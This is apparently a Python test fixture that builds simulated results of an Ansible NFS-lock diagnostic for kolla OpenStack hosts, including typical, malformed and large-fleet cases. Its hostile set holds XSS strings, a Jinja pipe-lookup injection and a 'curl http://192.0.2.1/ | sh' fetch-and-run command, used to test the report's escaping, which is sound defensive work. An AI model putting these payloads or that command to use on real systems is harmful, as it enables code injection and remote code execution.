"""Results of nfs_lock_info as hosts return them, for the tests of the report: typical ones, hostile ones, and many."""

import copy
import random

NFS = {"text": "Make rpcbind and rpc.statd live on this host; the mounts that exist recover at once.", "fix": "rpcbind_ensure",
       "command": "ansible -i INVENTORY HOST -b -m nfslock.kolla.rpcbind_ensure"}
NOTHING = {"fix": "none", "text": "Nothing is to be done.", "command": ""}
PATCH = {
    "fix": "patch",
    "text": "Have the locks of the store (fuse.juicefs) mended. Else put the library into the containers, which the command does: QEMU and libvirt then go on "
    "without locks where they are refused, and warn: nothing keeps two writers of one image apart then. The patched QEMU packages do the same for QEMU alone: "
    "nfslock.kolla.fix with -e nfs_lock_fix_patch_set=FOLDER.",
    "command": "ansible -i INVENTORY HOST -b -m nfslock.kolla.nfs_lock_fix -a method=library",
}
REMEDY = "Set remember_owner = 0 in libvirt's qemu.conf."
LIBVIRT = {
    "fix": "libvirt",
    "text": f"The patched QEMU goes on without locks here and warns, but no guest starts: {REMEDY} Or put the library into nova_libvirt, which the "
    "command does: libvirt then goes on where its lock is refused, and warns.",
    "command": "ansible -i INVENTORY HOST -b -m nfslock.kolla.nfs_lock_fix -a method=library",
}
REFUSED = "libvirt takes a lock of its own on each disk before QEMU starts (remember_owner is on, as by default), and it is refused here (ENOSYS)"
ANSWERS = {"state": "answers", "answers_ms": 0.6, "detail": "", "where": "host"}
MEANING = {
    "ok": "locks work",
    "statd_dead": "rpc.statd is registered on this host and does not answer, so that NFSv3 locks fail",
    "locks_refused": "the filesystem refuses every kind of lock that QEMU can take",
}


def probe(result, errno="", detail="", ms=0.4):
    return {"result": result, "errno": errno, "ms": ms, "detail": detail}


def mount(container, path, source, verdict, cure, fstype="nfs", vers="3", errno="ENOLCK"):
    refused = verdict != "ok"
    result = "refused" if refused else "granted"
    errno = errno if refused else ""
    return {
        "container": container,
        "path": path,
        "source": source,
        "fstype": fstype,
        "vers": vers,
        "options": f"rw,relatime,vers={vers},hard,proto=tcp,local_lock=none,addr=192.0.2.7" if vers else "rw,relatime",
        "image": False,
        "probed": "outside",
        "probes": {
            "ofd": probe(result, errno, "F_OFD_SETLK shared, byte 100" if refused else ""),
            "posix": probe(result, errno, "F_SETLK shared, byte 100" if refused else "", 0.3),
            "flock": probe(result, errno, "LOCK_SH" if refused else "", 0.3),
        },
        "verdict": verdict,
        "reason": MEANING[verdict],
        "evidence": [f"OFD lock: {result}" + (f" ({errno}), F_OFD_SETLK shared, byte 100" if refused else "")],
        "recommended_fix": cure["fix"],
        "cure": cure,
        "holders": [],
        "guests": {"start": "", "missing": []},
    }


SHA256 = "4c1f9d0e7ab35826" * 4


def packages(container, qemu="stock", variant="", library="none"):
    version = "1:7.2+dfsg-7+deb12u18" + ("+nfslock1" if qemu == "patched" else "")
    return {
        "container": container,
        "id": "4f1c0de5a3b1",
        "image": f"quay.io/openstack.kolla/{container.replace('_', '-')}:2024.1-debian-bookworm",
        "state": "running",
        "distribution": "debian bookworm",
        "qemu": qemu,
        "variant": variant,
        "installed": [{"name": "qemu-utils", "version": version, "patched": qemu == "patched", "held": qemu == "patched"}],
        "unpatched": [] if qemu == "patched" else ["qemu-utils"],
        "unpatched_further": [],
        "stock_emulators": ["arm", "ppc"] if container == "nova_libvirt" and qemu == "patched" else [],
        "library": {"state": library, "sha256": "" if library == "none" else SHA256, "current": library in ("installed", "bound"), "others": []},
        "seccomp": "none",
        "error": "",
    }


def result(verdict, cure, mounts, packets, **more):
    return {
        "changed": False,
        "failed": False,
        "msg": f"{verdict}: {MEANING[verdict]}",
        "engine": {"name": "docker", "version": "24.0.7", "error": ""},
        "verdict": verdict,
        "reason": MEANING[verdict],
        "evidence": mounts[0]["evidence"] + (["rpc.statd: dead (udp 127.0.0.1:56979: connection refused)"] if verdict == "statd_dead" else []),
        "cure": cure,
        "mounts": mounts,
        "packages": packets,
        "stale_guests": [],
        "drift": [],
        "proofs": [],
        "guest_proofs": [],
        "libvirt": {"container": "", "healthy": False, "detail": "", "locks": locks(own_locks=False)},
        "findings": [],
        "rpcbind": ANSWERS,
        "statd": {"state": "dead", "answers_ms": 0, "detail": "udp 127.0.0.1:56979: connection refused", "where": ""} if verdict == "statd_dead" else ANSWERS,
        "stuck_probes": [],
        "took_ms": 61.3,
        **more,
    }


def locks(own_locks, detail="", covered=False):
    """What is known of libvirt's own locks: by default of a host where it takes none."""
    return {"container": "nova_libvirt", "version": "11.3.0", "file": "/etc/libvirt/qemu.conf", "remember_owner": own_locks, "dynamic_ownership": True,
            "lock_manager": "", "own_locks": own_locks, "covered": covered, "remedy": REMEDY if own_locks else "", "detail": detail}


NOVA, CINDER = "/var/lib/nova/mnt/0a1b2c", "/var/lib/cinder/mnt/3d4e5f"


def well():
    return result(
        "ok", NOTHING,
        [mount("nova_compute", NOVA, "filer:/nova", "ok", NOTHING, vers="4.2"), mount("cinder_volume", CINDER, "filer:/cinder", "ok", NOTHING, vers="4.2")],
        [packages(name) for name in ("nova_libvirt", "nova_compute", "cinder_volume")],
    )


def needs_rpcbind():
    return result(
        "statd_dead", NFS,
        [mount("nova_compute", NOVA, "filer:/nova", "statd_dead", NFS), mount("cinder_volume", CINDER, "filer:/cinder", "ok", NOTHING, vers="4.2")],
        [packages(name) for name in ("nova_libvirt", "nova_compute", "cinder_volume")],
        findings=[
            {"kind": "no_version", "message": "the share filer:/cinder has no vers option: Cinder and Nova may mount it with different versions",
             "file": "/etc/kolla/cinder-volume/nfs_shares", "line": 1},
            {"kind": "stray_statd", "message": "rpc.statd (process 812) runs in nova_compute and dies with it", "file": "", "line": 0},
        ],
    )


def needs_patch():
    return result(
        "locks_refused", PATCH,
        [mount("cinder_volume", "/var/lib/cinder/mnt/juice", "JuiceFS:vol", "locks_refused", PATCH, "fuse.juicefs", "", "ENOSYS")],
        [packages("nova_libvirt"), packages("cinder_volume")],
    )


def patched():
    cure = {"fix": "none", "text": "Nothing more is to be done: the patched QEMU goes on without locks here and warns.", "command": ""}
    return result(
        "locks_refused", cure,
        [mount("cinder_volume", "/var/lib/cinder/mnt/juice", "JuiceFS:vol", "locks_refused", cure, "fuse.juicefs", "", "ENOSYS")],
        [packages("nova_libvirt", "patched", "fallback"), packages("cinder_volume", "patched", "fallback"), packages("cinder_backup", "stock")],
        proofs=[
            {"container": "cinder_volume", "path": "/var/lib/cinder/mnt/juice", "result": "works", "step": "", "unlocked": True, "detail": ""},
        ],
        drift=[
            {"container": "cinder_scheduler", "what": "packages", "kind": "gone", "was": "99ee00ff", "is": "", "counts": True,
             "message": "there is no such container now; the packages from before are kept until nfs_lock_fix has state absent"},
        ],
    )


def by_library():
    """Stock packages and the library, which kolla binds into nova_libvirt and the fix has put into cinder_volume; an odd other entry of the list."""
    cure = {"fix": "none", "text": "Nothing more is to be done: with the library QEMU goes on without locks here and warns.", "command": ""}
    one = mount("nova_libvirt", "/var/lib/nova/mnt/juice", "JuiceFS:vol", "locks_refused", cure, "fuse.juicefs", "", "ENOSYS")
    one["guests"]["start"] = "yes"
    packets = [packages("nova_libvirt", "library", library="bound"), packages("cinder_volume", "library", library="old")]
    packets[1]["library"]["others"] = ["/usr/lib/libsafe.so"]
    return result(
        "locks_refused", cure, [one], packets,
        libvirt={"container": "", "healthy": False, "detail": "", "locks": locks(own_locks=True, covered=True)},
        findings=[{"kind": "library_differs", "message": "the library in cinder_volume is another build", "file": "", "line": 0}],
    )


def lost():
    """A deploy has recreated a container that was patched, and nothing is mounted there yet."""
    return result(
        "ok", NOTHING, [mount("nova_compute", NOVA, "filer:/nova", "ok", NOTHING, vers="4.2")], [packages("nova_compute"), packages("cinder_backup")],
        drift=[
            {"container": "cinder_backup", "what": "packages", "kind": "recreated", "was": "77aa00bb", "is": "88cc11dd", "counts": True,
             "message": "kolla recreated it without the patch: run the fix again"},
        ],
    )


def stale():
    """Patched, and a guest runs the QEMU from before."""
    one = patched()
    one["drift"] = []
    one["stale_guests"] = [{"pid": 4711, "guest": "instance-0000002a", "locks": 6, "advice": "hard reboot or live-migrate it"}]
    return one


def needs_libvirt():
    """Patched, and libvirt's own lock is refused."""
    one = mount("nova_libvirt", "/var/lib/nova/mnt/juice", "JuiceFS:vol", "locks_refused", LIBVIRT, "fuse.juicefs", "", "ENOSYS")
    one["guests"] = {"start": "no", "missing": [REFUSED]}
    return result(
        "locks_refused", LIBVIRT, [one], [packages("nova_libvirt", "patched", "fallback"), packages("nova_compute", "patched", "fallback")],
        proofs=[{"container": "nova_libvirt", "path": one["path"], "result": "works", "step": "", "unlocked": True, "detail": ""}],
        guest_proofs=[
            {"container": "nova_libvirt", "path": one["path"], "result": "fails", "step": "start", "unlocked": False, "ms": 312.5,
             "detail": "unable to lock /var/lib/nova/mnt/juice/image for metadata change: No locks available"},
        ],
        libvirt={"container": "nova_libvirt", "healthy": True, "detail": "", "locks": locks(own_locks=True, detail="another qemu.conf holds after a restart")},
    )


def configured(file, line, service, **said):
    return {"service": service, "section": "", "option": "", "export": "", "options": "", "file": f"/etc/kolla/{file}", "line": line, **said}


def storage(options="rw,vers=3", export="filer:/cinder"):
    """A host of cinder_volume as kolla-ansible writes it."""
    return {**needs_rpcbind(), "settings": [
        configured("cinder-volume/nfs_shares", 1, "share", export=export, options=options),
        configured("cinder-volume/cinder.conf", 40, "cinder", section="nfs-1"),
    ]}


def compute(options="hard,nolock"):
    return {**needs_rpcbind(), "settings": [configured("nova-compute/nova.conf", 9, "nova", section="libvirt", option="nfs_mount_options", options=options)]}


UNREACHABLE = {"changed": False, "unreachable": True, "msg": "Failed to connect to the host via ssh: ssh: connect to host compute4 port 22: No route to host"}
FAILED = {"changed": False, "failed": True, "msg": "cannot look at the host: this needs root; use become"}

TYPICAL = {
    "compute1": well(),
    "compute2": needs_rpcbind(),
    "compute3": patched(),
    "compute5": lost(),
    "compute6": stale(),
    "compute7": needs_libvirt(),
    "compute8": by_library(),
    "compute10": needs_patch(),
    "compute4": UNREACHABLE,
    "storage1": FAILED,
    "storage2": None,
}

# Each must stay text in every form of the report. report_alarm() is what they call if they do not.
ATTACKS = [
    "<img src=x onerror=report_alarm()>",
    "</script><script>report_alarm()</script>",
    "<!--<script>",
    "]]><svg onload=report_alarm()>",
    "'\"><b class=injected>",
    "{{ lookup('pipe', 'touch /tmp/nfslock-injected') }}{% raw %}",
    "a\nb\r\n# heading\n- item",
    "`code` ``two`` | cell | **bold** [link](javascript:report_alarm()) ![x](http://192.0.2.1/x.png) <http://192.0.2.1> https://192.0.2.1 @team",
    "\u202eevil\u2028line\u2029\u0000\u007f\u200b\ufeff",
    "back\\slash \"quote\" \\n \\",
    "\ud800 lone",
    "x" * 10000,
]


def hostile(attacks=tuple(ATTACKS)):
    """Every text of a result is an attack, by turns."""
    turn = 0

    def poison(value, key=""):
        nonlocal turn
        if isinstance(value, dict):
            return {name: poison(item, name) for name, item in value.items()}
        if isinstance(value, list):
            return [poison(item) for item in value]
        if isinstance(value, str) and key not in ("verdict", "fix", "result", "start"):
            turn += 1
            return attacks[turn % len(attacks)]
        return value

    odd = poison(patched() | {"libvirt": needs_libvirt()["libvirt"]})
    for attack in attacks:
        row = copy.deepcopy(odd["mounts"][0])
        row.update(container=attack, path=attack, source=attack, guests={"start": "no", "missing": [attack]})
        odd["mounts"].append(row)
        odd["proofs"].append({"container": attack, "path": attack, "result": "fails", "step": attack, "detail": attack, "unlocked": False})
        odd["guest_proofs"].append({"container": attack, "path": attack, "result": "fails", "detail": attack, "unlocked": False})
        odd["packages"].append({**copy.deepcopy(odd["packages"][0]), "container": attack, "qemu": "patched", "stock_emulators": [attack]})
        odd["stale_guests"].append({"pid": 1, "guest": attack, "locks": 1, "advice": attack})
        odd["findings"].append({"kind": attack, "message": attack, "file": attack, "line": 3})
    odd["cure"]["fix"] = "patch"
    odd["cure"]["command"] = "curl http://192.0.2.1/ | sh\nansible -i INVENTORY HOST -b -m nfslock.kolla.rpcbind_ensure"
    return odd


SHAPELESS = {"verdict": ["ok"], "mounts": {"a": 1}, "packages": [None, 3, "x", {"installed": "no"}], "cure": "none", "evidence": [{}, 1, "said"],
             "findings": 1e400, "rpcbind": [], "stale_guests": [{"pid": "<b>", "guest": None}], "guest_proofs": [[]], "libvirt": {"locks": 3},
             "took_ms": True, "drift": [[[[[[[[[[1]]]]]]]]]]}


def many(count=500):
    """count hosts with five containers and two mounts each."""
    names = ("nova_libvirt", "nova_compute", "cinder_volume", "cinder_backup", "cinder_scheduler")
    makers = (well, needs_rpcbind, well, stale, well, needs_patch, well)
    chance = random.Random(1)
    fleet = {}
    for index in range(1, count + 1):
        one = copy.deepcopy(makers[index % len(makers)]())
        one["mounts"] = [
            copy.deepcopy({**one["mounts"][side % len(one["mounts"])], "container": name, "path": f"/var/lib/nova/mnt/{chance.getrandbits(128):032x}"})
            for name in names
            for side in range(2)
        ]
        for row in one["mounts"]:
            for kind in row["probes"].values():
                kind["ms"] = round(chance.uniform(0.1, 2), 3)
        one["packages"] = [{**one["packages"][0], "container": name, "id": f"{chance.getrandbits(48):012x}"} for name in names]
        one["took_ms"] = round(chance.uniform(40, 90), 1)
        fleet[f"compute{index}"] = one
    fleet[f"compute{count}"] = UNREACHABLE
    return fleet


def without_fix(results):
    """As the report takes them: of each host what nfs_lock_info and nfs_lock_fix returned."""
    return {host: (info, None) for host, info in results.items()}
